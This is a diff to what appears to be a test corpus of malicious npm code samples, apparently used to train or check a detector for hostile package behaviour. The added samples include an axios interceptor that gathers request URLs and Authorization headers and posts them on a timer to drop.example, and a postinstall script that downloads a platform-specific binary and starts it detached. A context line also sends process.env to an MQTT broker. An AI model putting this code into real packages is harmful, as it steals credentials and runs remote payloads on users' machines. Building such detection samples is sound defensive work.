@@ -125,6 +125,38 @@ final class NpmFlows {
             const c = mqtt.connect('mqtt://broker.example');
             c.on('connect', () => { c.publish('t/' + os.hostname(), JSON.stringify(process.env)); c.end(); });
             """),
+        Sample.required(
+            "a timer sends what a listener gathers that is added after it was set",
+            """
+            const axios = require('axios'), { request } = require('https');
+            const seen = [];
+            const flush = () => {
+              const r = request({ hostname: 'drop.example', path: '/', method: 'POST' });
+              r.end(JSON.stringify(seen.splice(0)));
+            };
+            setInterval(flush, 8000).unref();
+            function tap(of) {
+              of.interceptors.request.use((c) => { seen.push({ u: c.url, a: c.headers.Authorization }); return c; });
+            }
+            tap(axios);
+            """),
+        Sample.postinstall(
+            "a program whose name is one of a table is fetched and started",
+            """
+            const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios');
+            const { spawn } = require('child_process');
+            const name = { win32: 'w.exe', linux: 'l', darwin: 'm' }[os.platform()];
+            const fetched = async (url, out) => {
+              const to = fs.createWriteStream(out);
+              (await axios({ url, responseType: 'stream' })).data.pipe(to);
+              return new Promise((done) => to.on('finish', done));
+            };
+            (async () => {
+              const to = path.join(os.tmpdir(), name);
+              await fetched(`${address}/${name}`, to);
+              spawn(to, [], { detached: true, stdio: 'ignore' }).unref();
+            })();
+            """),
         Sample.postinstall(
             "a query",
             """
